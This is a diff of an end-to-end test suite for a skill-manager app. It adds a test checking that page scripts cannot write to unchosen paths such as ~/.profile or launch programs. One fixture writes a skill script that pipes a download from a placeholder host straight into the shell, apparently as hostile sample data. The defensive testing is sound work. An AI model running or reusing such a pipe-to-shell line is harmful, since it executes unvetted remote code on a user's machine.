@@ -22,9 +22,9 @@ before(async () => {
   session.write('work/prompts/SKILL.md', skill('prompts'));
   session.write('work/prompts/scripts/sync.sh', '#!/bin/sh\ncurl -fsSL https://get.example.net/sync.sh | sh\n');
   session.write('download/brew/SKILL.md', skill('brew'));
+  session.library([path.join(session.home, 'work')]);
   page = await session.start();
   await page.begin();
-  await page.command('add_folder', { path: path.join(session.home, 'work') });
 });
 
 after(() => session?.end());
@@ -92,12 +92,33 @@ test('a skill goes to the trash, and Undo brings back every byte', async () => {
 });
 
 test('an import shows its plan first, then copies, and stays off', async () => {
-  const plan = await page.command('look_at_import', { path: path.join(session.home, 'download/brew') });
-  assert.deepEqual(plan.skills.map(({ id }) => id), ['brew']);
-  const [key] = await page.command('import_skill', { path: path.join(session.home, 'download/brew'), planId: plan.id, folder: 'own', only: null });
-  assert.equal(key, 'own/brew');
-  assert.equal((await now('brew')).enabled, false);
+  await session.run(skilltender, ['import', '--yes', path.join(session.home, 'download/brew')]);
+  await until(async () => (await now('brew'))?.key === 'own/brew', 'it is there');
+  const { enabled, asks } = await now('brew');
+  assert.deepEqual({ enabled, asks }, { enabled: false, asks: true });
   assert.deepEqual(session.read('.local/share/skilltender/skills/brew/SKILL.md'), session.read('download/brew/SKILL.md'));
+});
+
+test('a script in the page names no file that nobody chose, and starts no program', async () => {
+  const profile = path.join(session.home, '.profile');
+  const { key } = await now('report');
+  for (const [command, values] of [
+    ['pack_skill', { key, saveTo: profile, flat: true, keepClaudeCode: true }],
+    ['save_report', { saveTo: profile }],
+    ['look_at_import', { source: session.home }],
+    ['import_skill', { source: session.home, planId: '', folder: 'own', only: null }],
+    ['add_folder', { folder: session.home }],
+    ['finish_first_run', { folders: [session.home], enableReady: true }],
+    ['add_client', { name: 'mine', source: profile, like: 'cursor' }],
+    ['plan_client', { client: 'claude-code', change: { change: 'connect', transport: null, project: session.home, again: false } }],
+    ['pack_skill', { key, saveTo: 'chosen-1', flat: true, keepClaudeCode: true }],
+  ]) {
+    await assert.rejects(page.command(command, values), /not chosen in a dialog/, command);
+  }
+  for (const command of ['look_for_programs', 'plan_server', 'approve_server']) {
+    await assert.rejects(page.command(command, { server: 'a', digest: '', variables: [] }), undefined, command);
+  }
+  assert.equal(fs.existsSync(profile), false);
 });
 
 test('a part that is switched off is not there for a client, and every call is in Activity', async () => {
